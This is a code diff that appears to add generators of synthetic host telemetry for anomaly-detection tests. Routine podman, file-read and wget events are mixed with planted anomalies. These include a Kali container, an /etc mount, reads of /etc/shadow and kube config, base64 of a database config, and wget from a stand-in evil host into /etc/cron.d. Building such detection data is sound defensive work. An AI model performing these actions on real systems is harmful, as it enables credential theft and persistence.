@@ -427,8 +427,72 @@ def controller(p, rng):
     return make, [other_space, other_secret], "planted-secret-asked"
 
 
+def developers(p, rng):
+    """Many users who do the same, each at home and on a machine of their own."""
+    project = p.word()
+    users = rng.sample(PEOPLE, rng.randint(4, 12))
+    registry = f"registry.{p.word()}.example"
+
+    def event(r, image, user=None):
+        user = user or r.choice(users)
+        return process("/usr/bin/podman", ["podman", "run", "-it", "--rm", "-v", f"/home/{user}/src/{project}:/work", image, "bash"],
+                       "/usr/bin/zsh", user, f"laptop-{user}", f"/home/{user}/src/{project}")
+
+    def make(r, t):
+        return event(r, f"{registry}/dev/{project}:{r.randint(20, 26)}.{r.randint(1, 12)}")
+
+    def other_image(r, t):
+        return event(r, "docker.io/kalilinux/kali-rolling:latest")
+
+    def other_mount(r, t):
+        user = r.choice(users)
+        return process("/usr/bin/podman", ["podman", "run", "-it", "--rm", "-v", "/etc:/work", f"{registry}/dev/{project}:22.4", "bash"],
+                       "/usr/bin/zsh", user, f"laptop-{user}", f"/home/{user}/src/{project}")
+    return make, [other_image, other_mount], "planted-engine-client"
+
+
+def cache(p, rng):
+    """A service that reads whatever lies below a folder, at any depth."""
+    name = p.word()
+    program, user = rng.choice(["/usr/sbin/nginx", f"/opt/{name}/bin/server", "/usr/bin/node"]), rng.choice(["www-data", name, "cache"])
+    hosts = [f"edge-{i}" for i in range(1, rng.randint(2, 7))]
+
+    def make(r, t):
+        below = "/".join(r.choice(WORDS) + r.choice(["", str(r.randint(1, 99))]) for _ in range(r.randint(1, 4)))
+        return touch("open", f"/srv/{name}/config/{below}.{r.choice(['yaml', 'json', 'conf'])}", program, "/usr/lib/systemd/systemd", user, r.choice(hosts))
+
+    def other_path(r, t):
+        return touch("open", r.choice(["/root/.kube/config", "/etc/shadow", f"/srv/{r.choice(WORDS)}x/config/db.yaml"]), program, "/usr/lib/systemd/systemd", user, hosts[0])
+
+    def other_program(r, t):
+        return touch("open", f"/srv/{name}/config/db.yaml", "/usr/bin/base64", "/usr/bin/bash", user, hosts[0])
+    return make, [other_path, other_program], "planted-secret-read"
+
+
+def updater(p, rng):
+    """A mirror that asks a fixed set of sites."""
+    name, user = p.word(), rng.choice(["mirror", "root", "apt"])
+    sites = [f"{p.word()}.{rng.choice(['org', 'net', 'example'])}" for _ in range(rng.randint(6, 25))]
+    hosts = [f"mirror-{i}" for i in range(1, rng.randint(2, 4))]
+
+    def event(r, site):
+        return connect(f"{r.randint(20, 200)}.{r.randint(0, 250)}.{r.randint(0, 250)}.{r.randint(1, 250)}", 443, "/usr/bin/wget", ["wget", "-q", "-O", f"/var/cache/{name}/index-{r.randint(1, 10**5)}", f"https://{site}/index"],
+                       f"/usr/libexec/{name}-mirror", user, r.choice(hosts), **{"destination.domain": site})
+
+    def make(r, t):
+        return event(r, r.choice(sites))
+
+    def other_site(r, t):
+        return event(r, "paste.evil-site.example")
+
+    def other_file(r, t):
+        site = r.choice(sites)
+        return {**event(r, site), "process.args": ["wget", "-q", "-O", "/etc/cron.d/x", f"https://{site}/index"]}
+    return make, [other_site, other_file], "planted-fetch"
+
+
 KINDS = [ci_build, backup, config_management, agent_script, api_client, package, secret_reader, operator, diagnosis, restarts, container_agent,
-         service, socket_user, controller]
+         service, socket_user, controller, developers, cache, updater]
 
 
 def ordinary(rng, t):
